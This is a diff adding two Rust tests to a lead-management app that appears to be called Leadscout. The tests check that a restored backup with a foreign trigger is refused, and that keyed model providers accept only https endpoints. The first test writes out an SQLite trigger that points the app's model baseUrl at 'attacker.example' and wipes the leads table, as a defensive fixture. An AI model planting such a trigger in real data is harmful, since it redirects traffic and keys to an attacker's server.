@@ -569,6 +569,107 @@ fn a_backup_is_checked_then_restored_at_the_next_start_keeping_the_replaced_data
 }
 
 #[test]
+fn a_staged_backup_with_a_trigger_of_its_own_is_refused_at_the_next_start() {
+    let app = App::start();
+    app.ok("create_lead", new_lead("Kept Here", None));
+    let mock_app::App { dir, .. } = app;
+    let data = dir.path().join("data");
+    // A backup of this data, with a trigger that points the model at someone else's server (the
+    // attack in issue 18), waiting where a restore stages its file.
+    tauri::async_runtime::block_on(async {
+        use sqlx::Connection;
+        let store = leadscout_store::Store::open(&data.join(leadscout_store::DATABASE_FILE))
+            .await
+            .unwrap();
+        let staged = data.join(leadscout_store::RESTORE_FILE);
+        store.backup_to(&staged).await.unwrap();
+        store.close().await;
+        let options = sqlx::sqlite::SqliteConnectOptions::new().filename(&staged);
+        let mut conn = sqlx::SqliteConnection::connect_with(&options)
+            .await
+            .unwrap();
+        sqlx::raw_sql(
+            "CREATE TRIGGER steer_model AFTER INSERT ON leads BEGIN \
+               UPDATE settings SET value = json_set(value, '$.model.baseUrl', 'https://attacker.example') \
+               WHERE key = 'app'; \
+             END; \
+             DELETE FROM leads;",
+        )
+        .execute(&mut conn)
+        .await
+        .unwrap();
+        conn.close().await.unwrap();
+    });
+
+    let app = App::start_in(dir);
+    let info = app.ok("app_info", json!({}));
+    let notice = info["notice"].as_str().unwrap();
+    assert!(
+        notice.starts_with("The backup was not restored:"),
+        "{notice}"
+    );
+    assert!(
+        notice.contains("trigger \"steer_model\" that Leadscout does not create"),
+        "{notice}"
+    );
+    let board = app.ok("get_board", json!({}));
+    assert_eq!(
+        names_in(&board, "New"),
+        ["Kept Here"],
+        "the data is untouched"
+    );
+    assert!(!data.join(leadscout_store::RESTORE_FILE).exists());
+}
+
+#[test]
+fn a_new_provider_drops_the_old_address_and_a_keyed_one_takes_only_https() {
+    let app = App::start();
+    let mut settings = app.ok("get_settings", json!({}));
+    settings["model"] = json!({ "provider": "ollama", "baseUrl": "http://127.0.0.1:11434", "model": "llama3.2:3b" });
+    app.ok("update_settings", json!({ "settings": settings }));
+
+    // A form switched to OpenAI that still sends the local server's address.
+    settings["model"] = json!({ "provider": "openai", "baseUrl": "http://127.0.0.1:11434", "model": "gpt-4o-mini" });
+    let saved = app.ok("update_settings", json!({ "settings": settings }));
+    assert_eq!(saved["model"]["baseUrl"], Value::Null);
+    assert_eq!(
+        app.ok("get_settings", json!({}))["model"],
+        json!({ "provider": "openai", "baseUrl": null, "model": "gpt-4o-mini" })
+    );
+
+    // A key goes only over https, to an address without a password in it (a custom https
+    // endpoint is saved with the keychain's help: tests/keychain.rs).
+    for provider in ["openai", "anthropic", "gemini"] {
+        for bad in [
+            "http://llm-gateway.example.com/v1",
+            "http://127.0.0.1:8080/v1",
+            "https://me:secret@llm-gateway.example.com/v1",
+        ] {
+            settings["model"]["provider"] = json!(provider);
+            settings["model"]["baseUrl"] = json!(bad);
+            let refused = app.err("update_settings", json!({ "settings": settings }));
+            assert_eq!(refused["field"], "baseUrl", "{provider} {bad}: {refused}");
+            assert!(
+                refused["message"]
+                    .as_str()
+                    .unwrap()
+                    .contains("key only over https"),
+                "{refused}"
+            );
+        }
+    }
+    assert_eq!(
+        app.ok("get_settings", json!({}))["model"]["baseUrl"],
+        Value::Null
+    );
+
+    // Local servers without a key keep loopback http.
+    settings["model"] = json!({ "provider": "openai_compatible", "baseUrl": "http://127.0.0.1:1234/v1", "model": "qwen2.5" });
+    let saved = app.ok("update_settings", json!({ "settings": settings }));
+    assert_eq!(saved["model"]["baseUrl"], "http://127.0.0.1:1234/v1");
+}
+
+#[test]
 fn two_leads_for_one_person_are_merged_keeping_everything() {
     let app = App::start();
     let keep = app.ok(
